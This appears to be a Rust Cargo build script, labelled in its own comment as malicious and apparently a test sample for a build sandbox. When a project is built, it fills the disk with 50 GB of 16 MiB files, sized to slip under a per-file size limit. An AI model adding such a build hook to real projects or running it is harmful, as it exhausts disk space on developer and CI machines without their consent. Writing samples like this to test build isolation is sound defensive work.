// Malicious build script: fill the disk with 50 GB in 16 MiB files under
// OUT_DIR (inside the project's target directory), each file small enough
// to pass a file size limit.
use std::io::Write;

fn main() {
    let out = std::env::var("OUT_DIR").expect("OUT_DIR");
    let chunk = vec![0x5au8; 1 << 20];
    let total: u64 = 50_000_000_000;
    let per_file: u64 = 16 << 20;
    let mut written: u64 = 0;
    let mut n = 0;
    while written < total {
        let path = format!("{out}/fill-{n:06}");
        let mut f = std::fs::File::create(&path).unwrap_or_else(|e| panic!("kettle-malicious: create: {e}"));
        let mut in_file = 0;
        while in_file < per_file {
            f.write_all(&chunk).unwrap_or_else(|e| panic!("kettle-malicious: write: {e}"));
            in_file += chunk.len() as u64;
        }
        written += in_file;
        n += 1;
    }
    println!("cargo:warning=LEAK: wrote {written} bytes");
}
